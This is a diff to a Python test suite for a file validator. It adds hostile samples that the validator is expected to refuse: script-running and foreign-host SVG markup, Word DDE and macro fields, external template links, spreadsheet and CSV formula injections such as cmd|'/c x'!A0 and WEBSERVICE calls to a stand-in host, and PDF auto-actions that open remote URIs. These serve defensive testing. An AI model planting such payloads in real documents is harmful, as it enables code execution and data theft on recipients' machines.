@@ -150,6 +150,94 @@ def local_extra(data: bytes) -> bytes:
     return data[:28] + struct.pack("<H", size + 9) + data[30:name_end] + b"\xca\xfe\x05\0hello" + data[name_end:]
 
 
+PNG64 = base64.b64encode(png()).decode()
+NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+ACTING_DRAWINGS = {
+    "a link that runs": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
+    "a hidden link that runs": '<a href="java&#x9;script:alert(1)"><text>x</text></a>',
+    "a link to a program": '<a href="search-ms:query=x"><text>x</text></a>',
+    "a link to a server of files": '<a href="\\\\foreign.example\\x"><text>x</text></a>',
+    "an animation of a link": '<a><animate attributeName="href" values="javascript:alert(1)"/></a>',
+    "a script of another space": '<a:script xmlns:a="http://www.w3.org/1999/xhtml">alert(1)</a:script>',
+    "a page in its metadata": '<metadata><b xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/></metadata>',
+    "a handler in capitals": '<g ONCLICK="alert(1)"/>',
+    "a picture of another host": '<image href="http://foreign.example/x.png"/>',
+    "a symbol of another host": '<use xlink:href="//foreign.example/x.svg#a"/>',
+    "a style of another host": '<style>@import "http://foreign.example/x.css";</style>',
+    "a style with escapes": r"<style>a { fill: u\72l(http://foreign.example/x) }</style>",
+    "a font of another host": '<style>@font-face { font-family: a; src: url("https://foreign.example/x") }</style>',
+    "a colour of another host": '<path fill="url(http://foreign.example/x#a)"/>',
+    "a style attribute of another host": '<path style="fill: URL( //foreign.example/x#a )"/>',
+    "a base elsewhere": '<g xml:base="http://foreign.example/"><image href="x.png"/></g>',
+    "an element that nobody knows": "<audio/>",
+}
+
+
+def related(kind: str, target: str, mode: str) -> bytes:
+    of = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    links = f'<Relationships><Relationship Id="a" Type="{of}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
+    return zipped({"word/document.xml": f"<w:d {W}/>".encode(), "word/_rels/document.xml.rels": links})
+
+
+def workbook(formula: str) -> bytes:
+    sheet = f"<worksheet><c><f>{formula}</f></c></worksheet>".encode()
+    return zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet})
+
+
+def field(*codes: str, kind: str = "begin") -> str:
+    """A field whose code is in pieces; a piece that is a field stays as it is."""
+    runs = (code if code.startswith("<w:r>") else f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
+    marks = [f'<w:r><w:fldChar w:fldCharType="{name}"/></w:r>' for name in (kind, "end")]
+    return "".join([marks[0], *runs, marks[1]])
+
+
+EXTERNAL = ' TargetMode="External"'
+ACTING_FIELDS = {
+    "a program": field(" DDEAUTO c:\\\\x "),
+    "a program in pieces": field(" DD", "EAUTO c:\\\\x "),
+    "a program in a simple field": '<w:fldSimple w:instr=" DDE x "/>',
+    "a program in strict form": '<a:fldSimple xmlns:a="http://purl.oclc.org/ooxml/wordprocessingml/main" a:instr="DDE x"/>',
+    "a name that a field writes": field(field(' QUOTE "DDEAUTO" '), " c:\\\\x "),
+    "a field that never ends": '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r>',
+    "a macro that is pressed": field(" MACROBUTTON x y "),
+    "a picture elsewhere": field(' INCLUDEPICTURE "http://foreign.example/x.png" \\d '),
+    "a link in a field": field(' HYPERLINK "search-ms:query=x" '),
+    "a link after a tip": field(' HYPERLINK \\o "Tip" \\t "_blank" "file://foreign.example/x" '),
+    "a link that a field writes": field(" HYPERLINK ", field(' QUOTE "javascript:x" ')),
+    "another document": '<w:altChunk r:id="a" xmlns:r="r"/>',
+    "a film": '<x:webVideoPr xmlns:x="x" embeddedHtml="&lt;iframe&gt;"/>',
+    "a drawing elsewhere": '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://foreign.example/x.png"/>',
+    "a drawing that leads": '<v:shape xmlns:v="urn:schemas-microsoft-com:vml" href="ms-word:ofe|u|http://x"/>',
+}
+ACTING_RELATIONS = {
+    "a link to a program": ("hyperlink", "ms-word:ofe|u|http://x", EXTERNAL),
+    "a link that runs": ("hyperlink", "javascript:alert(1)", EXTERNAL),
+    "a link to a file": ("hyperlink", "file:///c:/x.exe", EXTERNAL),
+    "a template elsewhere": ("attachedTemplate", "https://foreign.example/x.dotm", EXTERNAL),
+    "a picture of another host": ("image", "https://foreign.example/x.png", EXTERNAL),
+    "one that says nothing of it": ("image", "https://foreign.example/x.png", ""),
+    "an object": ("oleObject", "embeddings/a.bin", ""),
+    "a frame": ("frame", "a.xml", ""),
+    "what nobody knows": ("whatever", "a.xml", ""),
+}
+ACTING_FORMULAS = ('HYPERLINK("search-ms:x","y")', '_xlfn.WEBSERVICE("http://foreign.example")', "cmd|'/c x'!A0", "BYROW(A1:A2,_xlfn.WEBSERVICE)")
+OPEN = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S %s >> >>"
+LINK = b"<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S %s >> >>"
+ACTING_PDFS = {
+    "an address that it opens": OPEN % b"/URI /URI (http://foreign.example/x)",
+    "a form that it sends": OPEN % b"/SubmitForm /F (http://foreign.example/x)",
+    "a file that it opens": OPEN % rb"/GoToR /F (\\\\foreign\\x.pdf) /D [0 /Fit]",
+    "a second action": OPEN % b"/GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (http://foreign.example/x) >>",
+    "an action that nobody knows": OPEN % b"/Whatever",
+    "what happens by itself": b"<< /AA << /O << /S /GoTo /D [3 0 R /Fit] >> >> >>",
+    "a link that runs": LINK % b"/URI /URI (javascript:alert(1))",
+    "a link to a file": LINK % b"/URI /URI (file:///c:/x)",
+    "a menu of its program": LINK % b"/Named /N /Print",
+    "a film": b"<< /Type /Annot /Subtype /Screen >>",
+    "a stream elsewhere": b"<< /Length 0 /F (x.bin) >>",
+    "a page elsewhere": b"<< /Ref << /F << /FS /URL /F (http://foreign.example/x) >> /Page 0 >> >>",
+}
+
 PACKED = zipped({"a.txt": b"x" * 100})
 EXIF = Image.Exif()
 EXIF[0x0110] = "A camera"
@@ -166,6 +254,20 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
     "a drawing with a script": ("a.svg", b"<svg><script>1</script></svg>", "script"),
     "a drawing that runs": ("a.svg", b"<svg onload='x'/>", "script"),
     "a drawing with a page": ("a.svg", b"<svg><foreignObject/></svg>", "another document"),
+    **{f"a drawing with {what}": ("a.svg", f"<svg {NS}>{drawn}</svg>".encode(), "can run a script") for what, drawn in ACTING_DRAWINGS.items()},
+    "a drawing with a style sheet of another host": ("a.svg", f'<?xml-stylesheet href="http://foreign.example/x.css"?><svg {NS}/>'.encode(), "can run a script"),
+    "a drawing that declares an attribute": ("a.svg", f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg {NS}/>'.encode(), "of its own"),
+    "a page that is called XML": ("a.xml", b'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>alert(1)</script></body></html>', "can run a script"),
+    "a drawing in XML": ("a.xml", f"<a><svg {NS}><script/></svg></a>".encode(), "can run a script"),
+    "a transformation": ("a.xml", b"<?xml-stylesheet href='a.xsl'?><a/>", "can run a script"),
+    "a document for another program": ("a.xml", b'<?mso-application progid="Word.Document"?><a/>', "can run a script"),
+    **{f"a Word file with {what}": ("a.docx", word(f"<w:p>{body}</w:p>"), "Word|link|fetch") for what, body in ACTING_FIELDS.items()},
+    **{f"a Word file with {what}": ("a.docx", related(kind, target, mode), "Word|link|fetch") for what, (kind, target, mode) in ACTING_RELATIONS.items()},
+    **{f"a workbook with {formula}": ("a.xlsx", workbook(formula), "formula") for formula in ACTING_FORMULAS},
+    "a table that runs a program": ("a.csv", b"a,b\n1,=cmd|'/c x'!A0\n", "formula"),
+    "a table that asks a server": ("a.tsv", b'a\t"=HYPERLINK(""http://foreign.example/""&A1,""x"")"\n', "formula"),
+    "a table with a sum that is none": ("a.csv", b"a;+1+WEBSERVICE(A1)\n", "formula"),
+    **{f"a PDF with {what}": ("a.pdf", pdf(SHOWN % b"x", more=more), "part|link") for what, more in ACTING_PDFS.items()},
     "JSON that ends early": ("a.json", b'{"a": ', "no sound JSON"),
     "two JSON values": ("a.json", b"{} {}", "no sound JSON"),
     "a script": ("a.js", b"var a", "script"),
@@ -226,8 +328,6 @@ REFUSED: dict[str, tuple[str, bytes, str]] = {
 }  # fmt: skip
 
 SOUND: dict[str, tuple[str, bytes]] = {
-    "a page": ("a.html", "<!DOCTYPE html><html><body><ul><li>Tēnā koutou</li></ul></body></html>".encode()),
-    "an empty page": ("a.html", b""),
     "a text with a mark": ("a.txt", "\ufefftext".encode()),
     "a picture": ("a.png", png()),
     "a picture with the name of its program": ("a.png", png((b"tEXt", b"Software\0Matplotlib"))),
@@ -240,6 +340,24 @@ SOUND: dict[str, tuple[str, bytes]] = {
     "a plain PDF": ("a.pdf", pdf(SHOWN % b"Hello", packed=False)),
     "a style sheet": ("own.css", b"a { color: red }"),
     "a drawing": ("a.svg", b"<?xml version='1.0' encoding='utf-8'?>\n<!DOCTYPE svg PUBLIC '-//W3C//DTD SVG 1.1//EN' 'x.dtd'>\n<svg><path d='M 1 2'/></svg>"),
+    "a drawing as Matplotlib and Inkscape make it": ("a.svg", f"""<?xml version="1.0"?><svg {NS} xmlns:i="http://www.inkscape.org/namespaces/inkscape">
+      <metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><r:a r:resource="http://purl.org/x"/></r:RDF></metadata><i:grid/>
+      <defs><style type="text/css">*{{stroke-linejoin: round}} a {{ clip-path: url(#c); font-family: "Open Sans" }}</style><clipPath id="c"/></defs>
+      <g clip-path="url(#c)" transform="rotate(2)" style="fill: url('#c')"><use xlink:href="#c"/><a href="https://example.org/"><text>x</text></a><image xlink:href="data:image/png;base64,{PNG64}"/></g></svg>""".encode()),
+    "a Word file with fields and links": ("a.docx", word("<w:p>" + field(" PAGE ") + field(' TOC \\o "1-3" \\h ') + field(' HYPERLINK \\l "_Toc1" \\o "Tip: a" ') + field(' HYPERLINK "https://example.org/a?b" ') + field(" IF ", field(" PAGE "), ' = 1 "a" "b" ') + field(" = ", field(" PAGE "), " - 1 ") + field(" ADDIN ZOTERO_ITEM CSL_CITATION {} ") + "</w:p>")),
+    "a Word file with a link": ("a.docx", related("hyperlink", "https://example.org/a b", EXTERNAL)),
+    "a Word file with a heading's address": ("a.docx", related("hyperlink", "#heading=h.1", EXTERNAL)),
+    "a table that counts": ("a.csv", b"name,share\n-5,+64 4 123\n@someone,=SUM(A1)\n-,a | b!\nsee image (1),-\n"),
+    "a workbook that counts": ("a.xlsx", workbook('SUM(A1:A2)&amp;IF(A3="image | call!",1,2)')),
+    "a PDF that opens at a page": ("a.pdf", pdf(SHOWN % b"x", more=OPEN % b"/GoTo /D [3 0 R /Fit]")),
+    "a PDF with a link": ("a.pdf", pdf(SHOWN % b"x", more=LINK % b"/URI /URI (https://example.org/a)")),
+    "a PDF with the structure of its text": ("a.pdf", pdf(SHOWN % b"x", more=b"<< /S /Link /A << /O /Layout /Placement /Block >> /F 4 >>")),
     "an index": ("search_index.js", b'var __index = {"docs": []};'),
     "our own script": ("altreport.js", (template_folder() / "site/assets/altreport.js").read_bytes()),
 }  # fmt: skip
+
+PAGES: dict[str, tuple[str, bytes]] = {
+    "a page": ("a.html", "<!DOCTYPE html><html><body><ul><li>Tēnā koutou</li></ul></body></html>".encode()),
+    "an empty page": ("a.html", b""),
+}
+"""Pages may be in a site, but not among an author's own files."""
